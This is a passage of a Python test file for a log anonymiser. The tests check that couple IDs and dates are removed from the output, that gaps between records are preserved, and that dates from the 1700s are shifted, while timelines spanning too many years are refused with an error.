    logs = Logs(checkins=as_table("checkins", checkins), triggers=as_table("triggers", triggers))
    out = tmp_path_factory.mktemp("anon")
    anon, report = anonymize(logs, key=KEY, k=1)
    write_anonymized(anon, out / "x", report=report)
    data = b"".join(_all_bytes(out / "x").values())
    for cid in ids:
        assert cid.encode() not in data
    for d in days:
        for spelling in _date_spellings(base + pd.Timedelta(days=d)):
            assert spelling.encode() not in data
    first = anon.checkins.groupby("couple_id")["date"].min()
    trig = anon.triggers.set_index("couple_id")["timestamp"]
    gap = (trig - first.reindex(trig.index)).iloc[0]
    assert gap == pd.Timedelta(days=days[0] - min(days), minutes=minutes)


def test_a_first_record_centuries_ago_is_shifted_or_refused_with_a_sentence():
    """Issue 13 point 19: anonymize died (OverflowError) for a first record before ~1708."""
    old = Logs(checkins=as_table("checkins", [
        {"couple_id": "c1", "partner": "A", "date": "1705-01-05", "connection": 5},
        {"couple_id": "c1", "partner": "A", "date": "1705-01-12", "connection": 6}]))  # fmt: skip
    anon, _ = anonymize(old, key=KEY, k=1)
    assert anon.checkins["date"].diff().dt.days.tolist()[1:] == [7.0]
    assert (anon.checkins["date"] >= NEUTRAL_START).all()
    span = Logs(checkins=as_table("checkins", [
        {"couple_id": "c1", "partner": "A", "date": "1705-01-05", "connection": 5},
        {"couple_id": "c1", "partner": "A", "date": "2025-01-12", "connection": 6}]))  # fmt: skip
    with pytest.raises(TrustDataError, match="span more years than a shifted timeline can hold"):
        anonymize(span, key=KEY, k=1)
